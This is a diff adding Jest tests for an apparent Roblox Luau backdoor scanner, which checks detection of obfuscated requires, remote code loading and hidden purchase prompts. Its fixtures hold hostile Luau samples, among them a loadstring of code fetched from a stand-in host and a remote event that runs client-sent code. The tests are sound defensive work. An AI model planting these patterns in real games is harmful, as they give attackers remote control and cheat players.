@@ -0,0 +1,96 @@
+import { describe, it, expect } from '@jest/globals';
+import { isThirdPartyPath, scanForBackdoors } from '../backdoor-scanner.js';
+
+describe('scanForBackdoors', () => {
+  it('should detect obfuscated strings and asset requires hidden behind variables', () => {
+    const escaped = '\\114\\101\\113\\117\\105\\114\\101\\40\\49\\50\\51\\41';
+    const code = [
+      `local payload = "${escaped}"`,
+      'local name = string.char(114, 101, 113, 117, 105, 114, 101)',
+      'local blob = "bG9jYWwgcmVtb3RlID0gZ2FtZTpHZXRTZXJ2aWNlKCJIdHRwU2VydmljZSIpOkdldEFzeW5jKCk="',
+      'local base = 4000000',
+      'local id = base * 2 + 123',
+      'local load = require',
+      'load(id)',
+      'require(5678901)',
+      'require(script.Parent.Utils)'
+    ].join('\n');
+
+    expect(scanForBackdoors(code).findings).toMatchObject([
+      { line: 1, rule: 'obfuscated-string', severity: 'medium' },
+      { line: 2, rule: 'string-char', severity: 'medium' },
+      { line: 3, rule: 'base64-blob', severity: 'medium' },
+      { line: 7, rule: 'hidden-require', severity: 'critical' },
+      { line: 8, rule: 'asset-require', severity: 'high' }
+    ]);
+    const scan = scanForBackdoors(code);
+    expect(scan.score).toBe(100);
+    expect(scan.level).toBe('critical');
+  });
+
+  it('should detect remote code execution, hidden prompts and remote admin commands', () => {
+    const code = [
+      'local HttpService = game:GetService("HttpService")',
+      'local MarketplaceService = game:GetService("MarketplaceService")',
+      'game:GetService("ServerScriptService").LoadStringEnabled = true',
+      'loadstring(HttpService:GetAsync("https://example.com/payload"))()',
+      '',
+      'game.Players.PlayerAdded:Connect(function(player)',
+      '\tMarketplaceService:PromptProductPurchase(player, 123456)',
+      '\tplayer.Chatted:Connect(function(message)',
+      '\t\tif player.UserId == 987654321 and message:sub(1, 5) == ":kick" then',
+      '\t\t\tgame.Players[message:sub(7)]:Kick()',
+      '\t\tend',
+      '\tend)',
+      'end)',
+      '',
+      'game.ReplicatedStorage.Run.OnServerEvent:Connect(function(player, source)',
+      '\tloadstring(source)()',
+      'end)'
+    ].join('\n');
+
+    expect(scanForBackdoors(code).findings).toMatchObject([
+      { line: 3, rule: 'loadstring-enabled', severity: 'critical' },
+      { line: 4, rule: 'remote-code', severity: 'critical' },
+      { line: 4, rule: 'http-request', severity: 'low' },
+      { line: 7, rule: 'hidden-prompt', severity: 'high' },
+      { line: 8, rule: 'remote-admin', severity: 'high' },
+      { line: 15, rule: 'remote-admin', severity: 'critical' },
+      { line: 16, rule: 'loadstring', severity: 'high' }
+    ]);
+  });
+
+  it('should flag require of a module id sent by the client', () => {
+    const code = [
+      'game.ReplicatedStorage.Remote.OnServerEvent:Connect(function(player, id) require(id).load(player.Name) end)',
+      '',
+      'game.ReplicatedStorage.Load.OnServerEvent:Connect(function(player, payload)',
+      '\tlocal assetId = tonumber(payload.id)',
+      '\trequire(assetId)',
+      '\trequire(script.Parent.Handlers)',
+      'end)'
+    ].join('\n');
+
+    expect(scanForBackdoors(code).findings).toMatchObject([
+      { line: 1, rule: 'hidden-require', severity: 'critical' },
+      { line: 1, rule: 'remote-admin', severity: 'critical' },
+      { line: 3, rule: 'remote-admin', severity: 'critical' },
+      { line: 5, rule: 'hidden-require', severity: 'critical' }
+    ]);
+    expect(scanForBackdoors(code).score).toBe(100);
+  });
+
+  it('should only flag prompts triggered by the player in third-party code', () => {
+    const code = [
+      'local MarketplaceService = game:GetService("MarketplaceService")',
+      'script.Parent.Activated:Connect(function()',
+      '\tMarketplaceService:PromptGamePassPurchase(game.Players.LocalPlayer, 42)',
+      'end)'
+    ].join('\n');
+
+    expect(scanForBackdoors(code)).toEqual({ findings: [], score: 0, level: 'none' });
+    expect(scanForBackdoors(code, { thirdParty: true }).findings).toMatchObject([{ line: 3, rule: 'hidden-prompt', severity: 'high' }]);
+    expect(isThirdPartyPath('Packages/_Index/someone_pkg@1.0.0/pkg/init.luau')).toBe(true);
+    expect(isThirdPartyPath('src/server/Packages.server.luau')).toBe(false);
+  });
+});